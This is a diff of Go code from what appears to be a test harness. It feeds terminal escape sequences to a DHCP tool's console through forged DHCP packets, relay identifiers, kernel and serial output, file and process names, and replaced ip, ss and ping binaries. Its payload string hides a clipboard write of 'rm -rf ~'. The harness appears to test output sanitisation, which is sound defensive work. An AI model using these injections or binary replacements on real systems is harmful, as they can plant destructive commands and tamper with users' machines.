@@ -28,63 +28,71 @@ var evilWords = []string{
 const worst = "\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;owned\x07\x1b[6n\u009b31m\x9b2J\u202eexe"
 
 // consoleWords bring evil words to the teacher's terminal by all the ways that there are.
-func consoleWords() []attack {
-	return []attack{
-		{"console/host-name", "leases under host names that are escape sequences or formulas (option 12)",
-			wordsAsLeases},
-		{"console/dhcp-options", "every option that holds text, with escape sequences, and the fields sname and file",
-			wordsAsOptions},
-		{"console/dhcp-replies", "a false server's NAK, OFFER and ACK with words in message, domain and boot file",
-			once(wordsAsReplies)},
-		{"console/relay", "circuit and remote identifiers with escape sequences", once(func(g *guest) [][]byte {
-			var frames [][]byte
-			for i, w := range evilWords {
-				agent := slices.Concat(text(1, w), text(2, w))
-				m := message{
-					xid:     uint32(0x7000 + i),
-					chaddr:  numbered(uint32(0x7000 + i)),
-					giaddr:  g.addr,
-					options: slices.Concat(kind(discover), opt(82, agent...)),
-				}
-				frames = append(frames, udp(g.hostMAC, g.self, g.addr, g.host, 67, 67, m.bytes()))
+var consoleWords = []attack{
+	{
+		"console/host-name", "leases under host names that are escape sequences or formulas (option 12)",
+		wordsAsLeases,
+	},
+	{
+		"console/dhcp-options", "every option that holds text, with escape sequences, and the fields sname and file",
+		wordsAsOptions,
+	},
+	{
+		"console/dhcp-replies", "a false server's NAK, OFFER and ACK with words in message, domain and boot file",
+		once(wordsAsReplies),
+	},
+	{"console/relay", "circuit and remote identifiers with escape sequences", once(func(g *guest) [][]byte {
+		var frames [][]byte
+		for i, w := range evilWords {
+			agent := slices.Concat(text(1, w), text(2, w))
+			m := message{
+				xid:     uint32(0x7000 + i),
+				chaddr:  numbered(uint32(0x7000 + i)),
+				giaddr:  g.addr,
+				options: slices.Concat(kind(discover), opt(82, agent...)),
 			}
-			return frames
-		})},
-		{"console/boot-words", "what a machine that does not boot says, with escape sequences, on its console",
-			func(context.Context, *guest) error {
-				return os.WriteFile(
-					"/dev/ttyS0",
-					[]byte("\nKernel panic - not syncing: "+worst+"\nNo bootable device "+worst+"\n"),
-					0,
-				)
-			}},
-		{"console/kernel-words", "the same through the kernel's log", func(context.Context, *guest) error {
-			return os.WriteFile("/dev/kmsg", []byte("<0>Kernel panic - not syncing: "+worst), 0)
-		}},
-		{"console/card-names", "a network card whose name is an escape sequence", cardName},
-		{"console/configuration", "words in the files of DHCP servers where the parser names them", wordsInFiles},
-		{"console/file-names", "configuration files whose names are escape sequences, lines and options",
-			wordsAsNames},
-		{"console/lease-file", "host names in the files of leases", wordsInLeaseFiles},
-		{"console/journal", "what DHCP servers are said to have said", wordsInJournal},
-		{"console/processes", "a process that is called dhcpd and has escape sequences for arguments", wordsAsProcess},
-		{
-			"console/command-output",
-			"a program that a check runs, and prints escape sequences, with a status of its own",
-			func(_ context.Context, _ *guest) error {
-				script := "#!/bin/sh\nprintf '" + strings.ReplaceAll(
-					worst,
-					"'",
-					"",
-				) + "\\n'\nprintf '" + worst + "\\n' >&2\nexit 3\n"
-				return errors.Join(
-					replace("/usr/sbin/ip", script),
-					replace("/usr/bin/ss", script),
-					replace("/usr/bin/ping", script),
-				)
-			},
+			frames = append(frames, udp(g.hostMAC, g.self, g.addr, g.host, 67, 67, m.bytes()))
+		}
+		return frames
+	})},
+	{
+		"console/boot-words", "what a machine that does not boot says, with escape sequences, on its console",
+		func(context.Context, *guest) error {
+			return os.WriteFile(
+				"/dev/ttyS0",
+				[]byte("\nKernel panic - not syncing: "+worst+"\nNo bootable device "+worst+"\n"),
+				0,
+			)
 		},
-	}
+	},
+	{"console/kernel-words", "the same through the kernel's log", func(context.Context, *guest) error {
+		return os.WriteFile("/dev/kmsg", []byte("<0>Kernel panic - not syncing: "+worst), 0)
+	}},
+	{"console/card-names", "a network card whose name is an escape sequence", cardName},
+	{"console/configuration", "words in the files of DHCP servers where the parser names them", wordsInFiles},
+	{
+		"console/file-names", "configuration files whose names are escape sequences, lines and options",
+		wordsAsNames,
+	},
+	{"console/lease-file", "host names in the files of leases", wordsInLeaseFiles},
+	{"console/journal", "what DHCP servers are said to have said", wordsInJournal},
+	{"console/processes", "a process that is called dhcpd and has escape sequences for arguments", wordsAsProcess},
+	{
+		"console/command-output",
+		"a program that a check runs, and prints escape sequences, with a status of its own",
+		func(_ context.Context, _ *guest) error {
+			script := "#!/bin/sh\nprintf '" + strings.ReplaceAll(
+				worst,
+				"'",
+				"",
+			) + "\\n'\nprintf '" + worst + "\\n' >&2\nexit 3\n"
+			return errors.Join(
+				replace("/usr/sbin/ip", script),
+				replace("/usr/bin/ss", script),
+				replace("/usr/bin/ping", script),
+			)
+		},
+	},
 }
 
 func wordsAsLeases(ctx context.Context, g *guest) error {
